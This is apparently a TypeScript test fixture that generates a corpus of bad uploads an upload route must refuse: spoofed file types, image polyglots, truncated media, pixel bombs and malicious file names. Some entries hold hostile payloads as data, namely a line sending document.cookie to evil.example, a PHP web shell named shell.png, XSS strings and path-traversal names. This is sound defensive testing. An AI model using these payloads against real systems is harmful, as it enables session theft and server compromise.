// The bad-upload corpus, built in code: files every upload route must refuse, each with the
// refusal a person is shown. Valid images are drawn with sharp; everything else is bytes.
import crypto from "node:crypto";
import zlib from "node:zlib";

import sharp from "sharp";

import { lyingMov, truncatedHeic } from "./media-fixtures";

/**
 * Why a file is refused, which decides the message each route shows: "damaged-image" and "damaged-video", a file
 * of an image or video type the site takes whose bytes are cut short or broken (on a route for the other kind,
 * a type refused); "undecodable", a video of a type we take whose picture does not decode.
 */
export type Refusal = "type" | "empty" | "name" | "damaged-image" | "damaged-video" | "undecodable";

/** The name the corpus's undecodable video goes by: the video route's message names it. */
export const LYING_MOV_NAME = "IMG_0042.MOV";

export interface BadUpload {
  label: string;
  name: string;
  /** The MIME type the client claims. */
  type: string;
  bytes: Buffer;
  refusal: Refusal;
}

const text = (s: string) => Buffer.from(s, "latin1");

/** One file of the corpus: what it is, the name and MIME type the client claims, its bytes, and why it is refused. */
const upload = (label: string, name: string, type: string, bytes: Buffer, refusal: Refusal = "type"): BadUpload => ({
  label,
  name,
  type,
  bytes,
  refusal,
});

function box(type: string, payload: Buffer, size = 8 + payload.length): Buffer {
  const head = Buffer.alloc(8);
  head.writeUInt32BE(size, 0);
  head.write(type, 4, "latin1");
  return Buffer.concat([head, payload]);
}
const ftyp = (brand: string) =>
  box("ftyp", Buffer.concat([text(brand), Buffer.from([0, 0, 2, 0]), text(`${brand}iso2`)]));

/** A PNG whose IHDR declares other dimensions, its CRC made right so only the size is wrong. */
function withDimensions(png: Buffer, width: number, height: number): Buffer {
  const out = Buffer.from(png);
  out.writeUInt32BE(width, 16);
  out.writeUInt32BE(height, 20);
  out.writeUInt32BE(zlib.crc32(out.subarray(12, 29)), 29);
  return out;
}

/** A JPEG whose start-of-frame declares other dimensions. */
function jpegWithDimensions(jpeg: Buffer, width: number, height: number): Buffer {
  const out = Buffer.from(jpeg);
  for (let i = 2; i < out.length - 9;) {
    if (out[i] !== 0xff) break;
    const marker = out[i + 1];
    const length = out.readUInt16BE(i + 2);
    if (marker >= 0xc0 && marker <= 0xc2) {
      out.writeUInt16BE(height, i + 5);
      out.writeUInt16BE(width, i + 7);
      return out;
    }
    i += 2 + length;
  }
  throw new Error("no SOF marker");
}

const html = text("<!doctype html><html><body><script>alert(document.cookie)</script></body></html>");
const js = text("\n;fetch('https://evil.example/?c='+document.cookie);//");
const svgScript = text(
  '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(1)</script><rect width="10" height="10"/></svg>',
);
const zip = Buffer.concat([
  text("PK\x03\x04\x14\0\0\0\0\0"),
  crypto.randomBytes(40),
  text("PK\x05\x06"),
  Buffer.alloc(18),
]);
const windowsExecutable = Buffer.concat([text("MZ\x90\0"), crypto.randomBytes(256)]);
const elfBinary = Buffer.concat([text("\x7fELF\x02\x01\x01"), crypto.randomBytes(256)]);
const pdfWhole = text("%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n");

export async function badUploads(): Promise<BadUpload[]> {
  const png = await sharp({ create: { width: 64, height: 48, channels: 3, background: { r: 200, g: 80, b: 20 } } })
    .png()
    .toBuffer();
  const jpeg = await sharp({ create: { width: 64, height: 48, channels: 3, background: { r: 20, g: 80, b: 200 } } })
    .jpeg()
    .toBuffer();
  const webp = await sharp({ create: { width: 8, height: 8, channels: 3, background: "#888" } })
    .webp()
    .toBuffer();
  const gif = await sharp({ create: { width: 8, height: 8, channels: 3, background: "#888" } })
    .gif()
    .toBuffer();
  const tiff = await sharp({ create: { width: 8, height: 8, channels: 3, background: "#888" } })
    .tiff()
    .toBuffer();
  const heic = Buffer.concat([ftyp("heic"), box("meta", Buffer.alloc(32)), box("mdat", crypto.randomBytes(64))]);
  const bmp = Buffer.concat([
    text("BM"),
    Buffer.alloc(4),
    Buffer.alloc(4),
    Buffer.from([54, 0, 0, 0]),
    Buffer.alloc(40),
    crypto.randomBytes(64),
  ]);
  const mp4 = (...boxes: Buffer[]) => Buffer.concat(boxes);
  const mdat = box("mdat", crypto.randomBytes(256));
  const moov = box("moov", crypto.randomBytes(32));

  const list: BadUpload[] = [
    // Spoofed extensions and MIME types.
    upload("HTML named .pdf", "cv.pdf", "application/pdf", html),
    upload("Windows executable named .jpg", "photo.jpg", "image/jpeg", windowsExecutable),
    upload("PHP script named .png", "shell.png", "image/png", text("<?php system($_GET['c']); ?>")),
    upload("ELF binary named .mp4", "clip.mp4", "video/mp4", elfBinary),
    upload("plain text named .mp4", "movie.mp4", "video/mp4", text("just some words, not a movie")),
    upload("PNG named .pdf", "portfolio.pdf", "application/pdf", png),
    upload("JPEG named .png", "picture.png", "image/png", jpeg),
    upload("PDF named .png", "scan.png", "image/png", pdfWhole),
    upload("PNG named .svg", "logo.svg", "image/svg+xml", png),
    upload("JPEG named .html", "page.html", "text/html", jpeg),
    upload("PNG without an extension", "photo", "image/png", png),
    upload("PNG named .png.exe", "photo.png.exe", "application/octet-stream", png),
    upload("PNG claiming to be HTML", "image.png", "text/html", Buffer.concat([png, html]), "damaged-image"),
    // Polyglots: an image with HTML or JavaScript appended after its end.
    upload("PNG + HTML after IEND", "poly.png", "image/png", Buffer.concat([png, html]), "damaged-image"),
    upload("PNG + JavaScript after IEND", "poly-js.png", "image/png", Buffer.concat([png, js]), "damaged-image"),
    upload("JPEG + HTML after EOI", "poly.jpg", "image/jpeg", Buffer.concat([jpeg, html]), "damaged-image"),
    upload("JPEG + JavaScript after EOI", "poly-js.jpeg", "image/jpeg", Buffer.concat([jpeg, js]), "damaged-image"),
    upload("GIF + ZIP (GIFAR)", "gifar.gif", "image/gif", Buffer.concat([gif, zip])),
    // Truncated files.
    upload("PNG cut in half", "half.png", "image/png", png.subarray(0, Math.floor(png.length / 2)), "damaged-image"),
    upload("PNG cut after its signature", "sig.png", "image/png", png.subarray(0, 20), "damaged-image"),
    upload(
      "JPEG cut in half",
      "half.jpg",
      "image/jpeg",
      jpeg.subarray(0, Math.floor(jpeg.length / 2)),
      "damaged-image",
    ),
    upload("JPEG of three bytes", "tiny.jpg", "image/jpeg", jpeg.subarray(0, 3), "damaged-image"),
    upload("PDF without its end", "cut.pdf", "application/pdf", pdfWhole.subarray(0, 40)),
    upload("ZIP without its directory", "cut.zip", "application/zip", zip.subarray(0, 30)),
    upload("HEIC cut short", "IMG_0041.HEIC", "image/heic", await truncatedHeic(), "damaged-image"),
    upload(
      "MP4 cut inside a box",
      "cut.mp4",
      "video/mp4",
      mp4(ftyp("isom"), moov, mdat).subarray(0, 100),
      "damaged-video",
    ),
    // Pixel bombs and huge declared dimensions.
    upload(
      "PNG declaring 100,000 × 100,000",
      "bomb.png",
      "image/png",
      withDimensions(png, 100_000, 100_000),
      "damaged-image",
    ),
    upload("PNG declaring just over the pixel limit", "big.png", "image/png", withDimensions(png, 10_001, 10_000)),
    upload("PNG declaring 2^31 wide", "wide.png", "image/png", withDimensions(png, 2 ** 31 - 1, 1), "damaged-image"),
    upload(
      "JPEG declaring 65,000 × 65,000",
      "bomb.jpg",
      "image/jpeg",
      jpegWithDimensions(jpeg, 65_000, 65_000),
      "damaged-image",
    ),
    upload("PNG declaring 0 × 0", "zero.png", "image/png", withDimensions(png, 0, 0), "damaged-image"),
    // Zero and almost zero bytes.
    upload("zero bytes", "empty.pdf", "application/pdf", Buffer.alloc(0), "empty"),
    upload("zero bytes named .png", "empty.png", "image/png", Buffer.alloc(0), "empty"),
    upload("one byte", "one.png", "image/png", Buffer.from([0x89])),
    // Traversal and control characters in names.
    upload("NUL in the name", "photo\u0000.png", "image/png", png, "name"),
    upload("terminal escape in the name", "photo\u001b[2J.png", "image/png", png, "name"),
    upload("DEL in the name", "photo\u007f.jpg", "image/jpeg", jpeg, "name"),
    upload("tab in the name", "cv\t.pdf", "application/pdf", pdfWhole, "name"),
    upload(
      "Unix traversal to /etc/passwd",
      "../../../etc/passwd",
      "text/plain",
      text("root:x:0:0:root:/root:/bin/bash\n"),
    ),
    upload("Windows traversal", "..\\..\\windows\\win.ini", "text/plain", text("[fonts]\r\n")),
    // The multipart parser reads "=" or ";" in a quoted name as a malformed header: the person is asked to rename it.
    upload("HTML with = in the name", "<img src=x onerror=alert(1)>.png", "image/png", png, "name"),
    upload("HTML script tag in the name", "<script>alert(1)</script>.png", "image/png", html),
    // SVG with script.
    upload("SVG with script", "logo.svg", "image/svg+xml", svgScript),
    upload("SVG with script named .png", "logo.png", "image/png", svgScript),
    // A HEIC whose index is noise: its boxes are whole, its header unreadable.
    upload("HEIC with a meta box of zeros", "photo.heic", "image/heic", heic, "damaged-image"),
    upload("HEIC named .jpg", "photo.jpg", "image/jpeg", heic),
    // A video whose header names a codec we take (HEVC) but whose frames are noise.
    upload("MOV whose header lies about its codec", LYING_MOV_NAME, "video/quicktime", await lyingMov(), "undecodable"),
    // Formats no route accepts.
    upload("TIFF", "scan.tiff", "image/tiff", tiff),
    upload(
      "big-endian TIFF header named .tif",
      "scan.tif",
      "image/tiff",
      Buffer.concat([text("MM\0*"), crypto.randomBytes(64)]),
    ),
    upload("GIF", "anim.gif", "image/gif", gif),
    upload("BMP", "image.bmp", "image/bmp", bmp),
    upload("WebP named .png", "image.png", "image/png", webp),
    upload("WebP cut short", "image.webp", "image/webp", webp.subarray(0, webp.length - 6), "damaged-image"),
    // MP4 with a wrong box layout.
    upload(
      "MP4: ftyp then random bytes",
      "random.mp4",
      "video/mp4",
      Buffer.concat([ftyp("isom"), crypto.randomBytes(512)]),
      "damaged-video",
    ),
    upload("MP4 without a moov box", "nomoov.mp4", "video/mp4", mp4(ftyp("isom"), mdat), "damaged-video"),
    upload(
      "MP4 box larger than the file",
      "long.mp4",
      "video/mp4",
      mp4(ftyp("isom"), moov, box("mdat", crypto.randomBytes(64), 1_000_000)),
      "damaged-video",
    ),
    upload(
      "MP4 box of size 4",
      "small.mp4",
      "video/mp4",
      mp4(ftyp("isom"), box("moov", Buffer.alloc(16), 4)),
      "damaged-video",
    ),
    upload("MP4 with HTML appended", "poly.mp4", "video/mp4", mp4(ftyp("isom"), moov, mdat, html), "damaged-video"),
    upload("QuickTime named .mp4", "clip.mp4", "video/mp4", mp4(ftyp("qt  "), moov, mdat)),
    // A ZIP named .pdf.
    upload("ZIP named .pdf", "portfolio.pdf", "application/pdf", zip),
    upload(
      "ZIP named .docx",
      "letter.docx",
      "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
      zip,
    ),
  ];
  return list;
}
